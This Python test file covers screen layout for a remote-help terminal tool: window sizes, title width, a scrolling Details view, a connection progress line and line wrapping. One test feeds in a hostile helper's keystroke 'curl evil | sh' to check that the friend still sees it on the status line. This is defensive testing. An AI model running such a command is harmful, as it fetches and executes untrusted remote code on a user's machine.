"""Issue 11, "Every screen readable everywhere", in the process: the sizes, the Details view,
the progress line and line mode's line breaking (tests/e2e/test_phone_look.py runs the
real programs)."""

from __future__ import annotations

import asyncio
from collections.abc import Iterator

import pytest

from remote_help.plain.terminal import fit, fit_prompt
from remote_help.roles import Role
from remote_help.ui.screens.verify import Result, VerifyHelper
from remote_help.ui.shared import SharedTerminal
from remote_help.wizard import status as st
from remote_help.wizard.flow import Step
from remote_help.wizard.options import Options
from tests.ui.stage import MIN, NORMAL, Stage, joined
from tests.ui.test_contrast import DETAILS

SIZES = [MIN, NORMAL]


@pytest.fixture(autouse=True)
def private_config(tmp_path: object, monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path))
    yield


def staged(size: tuple[int, int], test: object) -> None:
    async def body() -> None:
        stage = await Stage(size=size).start()
        try:
            await test(stage)  # type: ignore[operator]
        finally:
            await stage.stop()

    asyncio.run(body())


# -- the helper's size is its window's -------------------------------------------------


@pytest.mark.parametrize("size", SIZES)
def test_the_helpers_size_is_its_whole_window(size: tuple[int, int]) -> None:
    """A friend in line mode has a grid as big as the window (no status line): a helper
    with an equal window must not be told to make it bigger."""
    async def body() -> None:
        helper = SharedTerminal("helper", size, lambda: None, colors=16, utf8=True)
        friend = SharedTerminal("friend", size, lambda: None, colors=16, utf8=True)
        assert helper.size() == size
        assert friend.size() == (size[0], size[1] - 1)  # the shell's grid: less the status
        helper.show(b"$ ")
        await asyncio.sleep(0.1)
        helper.widget.render(size, focus=True)
        await asyncio.sleep(0)
        assert helper.size() == size
        helper.notice("a warning line")
        helper.widget.render(size, focus=True)
        await asyncio.sleep(0)
        assert helper.size() == size  # the warning line is not the window's either
        helper.close()
        friend.close()

    asyncio.run(body())


# -- the step 5 title and the Details view ------------------------------------------------


@pytest.mark.parametrize("size", SIZES)
def test_titles_are_never_cut(size: tuple[int, int]) -> None:
    async def test(stage: Stage) -> None:
        stage.app.flow.step = Step.VERIFY
        stage.app.show(VerifyHelper("K7E2R", DETAILS, lambda _: None, lambda: None))
        header = stage.rows()[0]
        assert "Step 5 of 7: Check that nobody is listening in" in header
        assert len(header) <= size[0]

    staged(size, test)


@pytest.mark.parametrize("size", SIZES)
@pytest.mark.parametrize("who", ["helper", "friend"])
def test_the_details_view_scrolls_and_always_says_how_to_close(size: tuple[int, int],
                                                               who: str) -> None:
    async def test(stage: Stage) -> None:
        stage.app.flow.step = Step.VERIFY
        screen = (VerifyHelper("K7E2R", DETAILS, lambda _: None, lambda: None) if who == "helper"
                  else Result(True, DETAILS))
        stage.app.show(screen)
        text = await stage.press("d")
        assert "Details for technical people" in text
        assert "Press D to close." in stage.rows()[-3]  # above the keys, never scrolled
        assert "a throwaway user" not in joined(text)  # too tall for the window
        await stage.press(*["page down"] * 10)
        text = joined(stage.text())
        assert "a throwaway user" in text  # the last of it
        assert "Details for technical people" not in text
        assert "Press D to close." in stage.rows()[-3]
        text = joined(await stage.press("home"))
        assert "Details for technical people" in text
        await stage.press("down", "down", "up")
        text = joined(await stage.press("d"))
        assert "Details for technical people" not in text
        assert ("KILO SEVEN" in text) if who == "helper" else ("CORRECT" in text)

    staged(size, test)


# -- the progress line after CORRECT ---------------------------------------------------


@pytest.mark.parametrize("role", [Role.FRIEND, Role.HELPER])
def test_a_moving_line_shows_until_the_shell_does(role: Role) -> None:
    async def test(stage: Stage) -> None:
        stage.app.flow.step = Step.CONNECTED
        live = st.Live(Step.CONNECTED, Options(role=role),
                       connected=st.Connected(role, role.other, "bob", "192.0.2.7"))
        shared = stage.app.front.session_view(live)
        first = joined(stage.text())
        assert "Starting the secure connection." in first
        # urwid gives keys only to a selectable top widget: Ctrl+Alt+C works here too.
        assert stage.app.top.selectable()
        await asyncio.sleep(0.35)
        assert "Starting the secure connection.." in joined(stage.text())  # it moves
        shared.show(b"\x1b[?2004h")  # modes only: still nothing to see
        await asyncio.sleep(0.1)
        assert "Starting the secure connection" in stage.text()
        shared.show(b"bob@box:~$ ")
        await asyncio.sleep(0.1)
        text = stage.text()
        assert "Starting the secure connection" not in text
        assert "bob@box:~$" in text
        shared.close()

    staged(NORMAL, test)


def test_keys_a_helper_types_before_the_shell_shows_are_on_the_friends_status_line() -> None:
    """The moving line stands where the shell will show: a hostile helper who types before
    the shell's first output (keys the shell does not echo) is still seen on the status
    line, which stays above the moving line."""
    async def test(stage: Stage) -> None:
        stage.app.flow.step = Step.CONNECTED
        live = st.Live(Step.CONNECTED, Options(role=Role.FRIEND),
                       connected=st.Connected(Role.FRIEND, Role.HELPER, "bob", "192.0.2.7"))
        shared = stage.app.front.session_view(live)
        shared.helper_typed("curl evil | sh\r", echo=False)
        await asyncio.sleep(0.05)
        text = joined(stage.text())
        assert "Starting the secure connection" in text  # nothing shown by the shell yet
        assert "curl evil | sh" in text
        assert "To end help, press Ctrl+Alt+C." in text
        shared.close()

    staged(NORMAL, test)


# -- line mode's lines ------------------------------------------------------------------


@pytest.mark.parametrize("width", [80, 60, 40])
def test_line_mode_breaks_between_words_and_keeps_indentation(width: int) -> None:
    words = ("remote-help lets someone you trust see and use this computer, to fix it. You "
             "can end it at any time by pressing Ctrl+Alt+C.\n"
             "    127.0.0.1    (one two seven, dot, zero, dot, zero, dot, one)\n\n"
             "key ssh-ed25519 " + "Z" * 70)
    lines = fit(words, width)
    assert all(len(line) <= width for line in lines), lines
    assert "Ctrl+Alt+C." in " ".join(lines).split()
    assert "pressing" in " ".join(lines).split()
    assert lines[lines.index("") - 1].startswith("    ")  # the indented line's second part
    assert "" in lines  # the empty line kept
    assert "".join(lines).count("Z") == 70  # a word longer than a line: cut, all there
    prompt = fit_prompt("Type your helper's address (numbers and dots, for example "
                        "192.168.1.20), then press Enter:", width).split("\n")
    assert all(len(line) <= width for line in prompt)
    assert len(prompt[-1]) + 16 <= width  # room for the answer
